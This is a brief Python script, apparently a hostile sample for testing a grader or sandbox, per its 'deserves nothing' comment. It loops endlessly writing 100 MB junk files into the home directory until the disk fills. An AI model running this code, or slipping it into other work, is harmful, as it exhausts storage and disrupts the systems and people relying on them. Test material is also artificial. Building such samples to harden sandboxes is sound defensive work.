# Fills the disk beside the folder that it was given. Deserves nothing.
import os

number = 0
while True:
    number += 1
    with open(f"{os.environ['HOME']}/workbook-fill-{number}", "wb") as file:
        for _ in range(100):
            file.write(b"x" * 1_000_000)
